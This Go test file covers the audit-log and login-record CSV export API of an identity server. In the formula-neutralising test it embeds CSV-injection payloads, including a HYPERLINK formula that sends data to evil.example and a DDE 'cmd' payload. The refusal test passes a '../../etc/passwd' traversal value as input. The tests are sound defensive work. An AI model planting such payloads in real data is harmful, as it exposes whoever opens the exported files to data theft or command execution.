package server_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/latchkeyhq/latchkey/internal/manage"
	"github.com/latchkeyhq/latchkey/internal/storage"
)

// exportCSV reads an export's answer: a 200 zip holding exactly the file
// name, parsed as CSV (header first).
func exportCSV(t *testing.T, res result, name string) [][]string {
	t.Helper()
	if res.status != 200 || res.header.Get("Content-Type") != "application/zip" {
		t.Fatalf("export: %d %s %.300s", res.status, res.header.Get("Content-Type"), res.body)
	}
	zr, err := zip.NewReader(bytes.NewReader(res.body), int64(len(res.body)))
	must(t, err)
	if len(zr.File) != 1 || zr.File[0].Name != name {
		t.Fatalf("zip holds %v, want only %s", zr.File, name)
	}
	f, err := zr.File[0].Open()
	must(t, err)
	defer f.Close()
	raw, err := io.ReadAll(f)
	must(t, err)
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	must(t, err)
	return rows
}

// column returns column i of rows after the header.
func column(rows [][]string, i int) []string {
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[i])
	}
	return out
}

// TestExportAuditLogs: the export is a zip of audit_log.csv with
// FusionAuth's columns, the rows the same criteria's search finds, newest
// first, instants written in the asked zone and pattern (or FusionAuth's
// default pattern in the report time zone); the GET form answers the
// same file.
func TestExportAuditLogs(t *testing.T) {
	s := newStack(t)
	for i, m := range []string{"Deployed v1", "Rotated keys", "Deployed v2, with \"quotes\"\nand a line"} {
		s.apiOK("POST", "/api/system/audit-log", map[string]any{"auditLog": map[string]any{"insertUser": fmt.Sprint("ops", i, "@example.test"),
			"message": m, "reason": "release", "oldValue": "1.0", "newValue": map[string]any{"version": i}}})
		s.Clock.Advance(time.Hour)
	}
	body := map[string]any{"criteria": map[string]any{"message": "deployed"}, "zoneId": "Europe/Paris",
		"dateTimeSecondsFormat": "yyyy-MM-dd'T'HH:mm:ss.SSS XXX EEE"}
	rows := exportCSV(t, s.api("POST", "/api/system/audit-log/export", body), "audit_log.csv")
	if want := []string{"Id", "Tenant Id", "Created", "User", "Reason", "Message", "Old value", "New value"}; !slices.Equal(rows[0], want) {
		t.Fatalf("columns %q, want %q", rows[0], want)
	}
	if got := column(rows, 5); !slices.Equal(got, []string{"Deployed v2, with \"quotes\"\nand a line", "Deployed v1"}) {
		t.Fatalf("messages %q: want the two deployments, newest first", got)
	}
	search := s.apiOK("POST", "/api/system/audit-log/search", map[string]any{"search": map[string]any{"message": "deployed"}})
	var ids []string
	for _, e := range search["auditLogs"].([]any) {
		ids = append(ids, fmt.Sprint(e.(map[string]any)["id"]))
	}
	if got := column(rows, 0); !slices.Equal(got, ids) {
		t.Fatalf("exported ids %v, the search's %v", got, ids)
	}
	paris, err := time.LoadLocation("Europe/Paris")
	must(t, err)
	first := s.Clock.Now().Add(-3 * time.Hour).In(paris)
	if want := first.Format("2006-01-02T15:04:05.000 -07:00 Mon"); rows[2][2] != want {
		t.Fatalf("created %q, want %q", rows[2][2], want)
	}
	if rows[2][3] != "ops0@example.test" || rows[2][4] != "release" || rows[2][6] != "1.0" || rows[2][7] != `{"version":0}` {
		t.Fatalf("row %q", rows[2])
	}
	get := exportCSV(t, s.api("GET", "/api/system/audit-log/export?message=deployed&zoneId=Europe/Paris&dateTimeSecondsFormat="+
		"yyyy-MM-dd'T'HH:mm:ss.SSS%20XXX%20EEE", nil), "audit_log.csv")
	if !slices.EqualFunc(get, rows, slices.Equal) {
		t.Fatalf("GET answered\n%q\nPOST\n%q", get, rows)
	}
	// Defaults: FusionAuth's pattern, in the report time zone (America/Denver).
	rows = exportCSV(t, s.api("POST", "/api/system/audit-log/export", map[string]any{"criteria": map[string]any{"user": "ops0"}}), "audit_log.csv")
	denver, err := time.LoadLocation("America/Denver")
	must(t, err)
	if want := first.In(denver).Format("1/2/2006 03:04:05 PM MST"); len(rows) != 2 || rows[1][2] != want {
		t.Fatalf("default format: %q, want %q", rows, want)
	}
}

// TestExportNeutralizesFormulas: a stored audit message, login id or user
// that a spreadsheet would run (=, +, -, @, tab, CR first) comes out as
// text behind a single quote (OWASP CSV Injection), every cell quoted.
func TestExportNeutralizesFormulas(t *testing.T) {
	s := newStack(t)
	hostile := []string{`=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"}
	for _, m := range hostile {
		s.apiOK("POST", "/api/system/audit-log", map[string]any{"auditLog": map[string]any{"insertUser": "=1+1", "message": m}})
	}
	res := s.api("POST", "/api/system/audit-log/export", map[string]any{})
	rows := exportCSV(t, res, "audit_log.csv")
	got := column(rows, 5)
	slices.Reverse(got) // newest first
	for i, m := range hostile {
		if want := "'" + strings.ReplaceAll(m, "\r", "\n"); got[i] != want && got[i] != "'"+m {
			t.Errorf("message %q came out %q, want it behind a quote", m, got[i])
		}
	}
	for _, r := range rows[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if r[3] != "'=1+1" {
			t.Errorf("user %q", r[3])
		}
	}
	raw := unzipOnly(t, res.body)
	if !strings.Contains(raw, `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`) || !strings.HasPrefix(raw, `"Id","Tenant Id",`) {
		t.Fatalf("not every cell quoted with its quotes doubled:\n%s", raw)
	}
}

func unzipOnly(t *testing.T, body []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	must(t, err)
	f, err := zr.File[0].Open()
	must(t, err)
	defer f.Close()
	raw, err := io.ReadAll(f)
	must(t, err)
	return string(raw)
}

// TestExportReadsEveryPage: an export of more rows than a page
// (manage.ExportPage) holds every matching row once.
func TestExportReadsEveryPage(t *testing.T) {
	s := newStack(t)
	ctx := context.Background()
	n := 2*manage.ExportPage + 7
	for i := range n {
		_, err := s.Store.CreateAuditEntry(ctx, storage.AuditEntry{InsertInstant: s.Clock.Now().UnixMilli() + int64(i/3),
			InsertUser: "bulk", Message: fmt.Sprint("bulk ", i)})
		must(t, err)
	}
	rows := exportCSV(t, s.api("GET", "/api/system/audit-log/export?user=bulk", nil), "audit_log.csv")
	ids := column(rows, 0)
	if len(ids) != n {
		t.Fatalf("%d rows, want %d", len(ids), n)
	}
	slices.Sort(ids)
	if len(slices.Compact(ids)) != n {
		t.Fatal("a row came twice")
	}
}

// TestExportLoginRecords: login_records.csv with FusionAuth's columns, the
// records the search's criteria select, newest first, and the GET form.
func TestExportLoginRecords(t *testing.T) {
	s := newStack(t)
	first := s.Clock.Now()
	for _, app := range []string{storeApp, storeApp, forumsApp} {
		if res := s.login(app, nil); res.status != 200 && res.status != 202 {
			t.Fatalf("login: %d %s", res.status, res.body)
		}
		s.Clock.Advance(time.Minute)
	}
	body := map[string]any{"criteria": map[string]any{"applicationId": storeApp, "userId": aliceID}, "zoneId": "UTC",
		"dateTimeSecondsFormat": "yyyy-MM-dd HH:mm:ss"}
	rows := exportCSV(t, s.api("POST", "/api/system/login-record/export", body), "login_records.csv")
	want := []string{"User Id", "Identity value", "Identity type", "Time", "Application Id", "IP Address", "City", "Country",
		"Zipcode", "Region", "Latitude", "Longitude"}
	if !slices.Equal(rows[0], want) {
		t.Fatalf("columns %q", rows[0])
	}
	times := []string{first.Add(time.Minute).UTC().Format("2006-01-02 15:04:05"), first.UTC().Format("2006-01-02 15:04:05")}
	if len(rows) != 3 || !slices.Equal(column(rows, 3), times) || rows[1][0] != aliceID || rows[1][1] != aliceEmail ||
		rows[1][4] != storeApp || rows[1][5] == "" {
		t.Fatalf("rows %q, want alice's two store logins at %q", rows, times)
	}
	get := exportCSV(t, s.api("GET", "/api/system/login-record/export?applicationId="+storeApp+"&userId="+aliceID+
		"&zoneId=UTC&dateTimeSecondsFormat=yyyy-MM-dd%20HH:mm:ss", nil), "login_records.csv")
	if !slices.EqualFunc(get, rows, slices.Equal) {
		t.Fatalf("GET answered %q, POST %q", get, rows)
	}
	all := exportCSV(t, s.api("POST", "/api/system/login-record/export", map[string]any{}), "login_records.csv")
	if len(all) != 4 || all[1][4] != forumsApp {
		t.Fatalf("every record: %q", all)
	}
}

// TestExportRefusals: a zone or pattern latchkey cannot write, and the
// criteria its search refuses, are 400 with FusionAuth's error shape, not
// a zip nor a 500.
func TestExportRefusals(t *testing.T) {
	s := newStack(t)
	for _, c := range []struct {
		path  string
		body  any
		field string
	}{
		{"/api/system/audit-log/export", map[string]any{"zoneId": "Mars/Olympus"}, "zoneId"},
		{"/api/system/audit-log/export", map[string]any{"zoneId": "Local"}, "zoneId"},
		{"/api/system/audit-log/export", map[string]any{"zoneId": "../../etc/passwd"}, "zoneId"},
		{"/api/system/audit-log/export", map[string]any{"dateTimeSecondsFormat": "yyyy-MM-dd Q"}, "dateTimeSecondsFormat"},
		{"/api/system/audit-log/export", map[string]any{"dateTimeSecondsFormat": "'unclosed"}, "dateTimeSecondsFormat"},
		{"/api/system/audit-log/export", map[string]any{"dateTimeSecondsFormat": "ddd"}, "dateTimeSecondsFormat"},
		{"/api/system/audit-log/export", map[string]any{"dateTimeSecondsFormat": strings.Repeat("y", 300)}, "dateTimeSecondsFormat"},
		{"/api/system/login-record/export", map[string]any{"zoneId": "Nowhere"}, "zoneId"},
		{"/api/system/login-record/export", map[string]any{"criteria": map[string]any{"start": 10, "end": 5}}, "search.end"},
		{"/api/system/login-record/export", map[string]any{"criteria": map[string]any{"userId": "not-a-uuid"}}, "search.userId"},
		{"/api/system/login-record/export?start=yesterday", nil, "start"},
		{"/api/system/audit-log/export?end=soon", nil, "end"},
	} {
		method := "POST"
		if c.body == nil {
			method = "GET"
		}
		res := s.api(method, c.path, c.body)
		if res.status != 400 || !strings.Contains(string(res.body), `"`+c.field+`"`) || res.header.Get("Content-Type") == "application/zip" {
			t.Errorf("%s %s %v: %d %s, want 400 naming %s", method, c.path, c.body, res.status, res.body, c.field)
		}
	}
	if res := s.api("POST", "/api/system/audit-log/export", `{"criteria":`); res.status != 400 {
		t.Errorf("a broken body: %d", res.status)
	}
}

// TestExportsNeedTheirPermission: each export needs its own endpoint
// (FusionAuth's /api/system/audit-log/export and
// /api/system/login-record/export); a key holding only the search gets
// 401, and the export key reads no search.
func TestExportsNeedTheirPermission(t *testing.T) {
	s := newStack(t)
	ctx := context.Background()
	const searchKey, exportKey = "search-only-key-0123456789abcdef0123456789abcdef", "export-only-key-0123456789abcdef0123456789abcdef"
	for key, endpoints := range map[string]map[string][]string{
		searchKey: {"/api/system/audit-log/search": {"GET", "POST"}, "/api/system/login-record/search": {"GET", "POST"}},
		exportKey: {"/api/system/audit-log/export": {"GET", "POST"}, "/api/system/login-record/export": {"GET", "POST"}},
	} {
		must(t, s.Store.CreateAPIKey(ctx, storage.APIKey{ID: uuid.NewString(), KeyHash: manage.HashAPIKey(key),
			Endpoints: endpoints, InsertInstant: s.Clock.Now().UnixMilli()}))
	}
	for _, c := range []struct {
		key, method, path string
		status            int
	}{
		{"", "POST", "/api/system/audit-log/export", 401},
		{searchKey, "POST", "/api/system/audit-log/export", 401},
		{searchKey, "GET", "/api/system/audit-log/export", 401},
		{searchKey, "POST", "/api/system/login-record/export", 401},
		{searchKey, "GET", "/api/system/login-record/export", 401},
		{exportKey, "POST", "/api/system/audit-log/search", 401},
		{exportKey, "POST", "/api/system/login-record/search", 401},
		{exportKey, "POST", "/api/system/audit-log/export", 200},
		{exportKey, "GET", "/api/system/login-record/export", 200},
	} {
		var body any
		if c.method == "POST" {
			body = map[string]any{}
		}
		res := s.api(c.method, c.path, body, "Authorization", c.key)
		if res.status != c.status || c.status == 401 && res.header.Get("Content-Type") == "application/zip" {
			t.Errorf("%s %s with key %q: %d, want %d", c.method, c.path, c.key, res.status, c.status)
		}
	}
}

// TestExportsTenantScope: a tenant-scoped key exports what its searches
// show it: its tenant's audit entries and login records, none of another
// tenant's nor the system-wide entries.
func TestExportsTenantScope(t *testing.T) {
	s := newStack(t)
	s.withOtherTenant()
	ctx := context.Background()
	s.apiOK("POST", "/api/system/audit-log", map[string]any{"auditLog": map[string]any{"insertUser": "global", "message": "global secret"}})
	s.apiOK("POST", "/api/system/audit-log", map[string]any{"auditLog": map[string]any{"insertUser": "scoped", "message": "scoped entry"}},
		"Authorization", scopedKey)
	_, err := s.Store.CreateAuditEntry(ctx, storage.AuditEntry{InsertInstant: s.Clock.Now().UnixMilli(), TenantID: otherTenant,
		InsertUser: "other", Message: "other tenant secret"})
	must(t, err)
	rows := exportCSV(t, s.api("POST", "/api/system/audit-log/export", map[string]any{}, "Authorization", scopedKey), "audit_log.csv")
	if got := column(rows, 5); !slices.Equal(got, []string{"scoped entry"}) {
		t.Fatalf("the scoped key exported %q, want only its tenant's entry", got)
	}
	if all := exportCSV(t, s.api("POST", "/api/system/audit-log/export", map[string]any{}), "audit_log.csv"); len(all) != 4 {
		t.Fatalf("the global key exported %d rows, want 3", len(all)-1)
	}
	must(t, s.Store.RecordLogin(ctx, storage.Login{UserID: otherUserID, At: s.Clock.Now().UnixMilli(),
		Record: &storage.LoginRecord{ID: "other-login", UserID: otherUserID, TenantID: otherTenant, Instant: s.Clock.Now().UnixMilli()}}))
	s.login(storeApp, nil)
	rows = exportCSV(t, s.api("GET", "/api/system/login-record/export", nil, "Authorization", scopedKey), "login_records.csv")
	if got := column(rows, 0); !slices.Equal(got, []string{aliceID}) {
		t.Fatalf("the scoped key exported the logins of %q, want alice's only", got)
	}
	rows = exportCSV(t, s.api("GET", "/api/system/login-record/export?userId="+otherUserID, nil, "Authorization", scopedKey), "login_records.csv")
	if len(rows) != 1 {
		t.Fatalf("the scoped key exported another tenant's logins: %q", rows)
	}
}
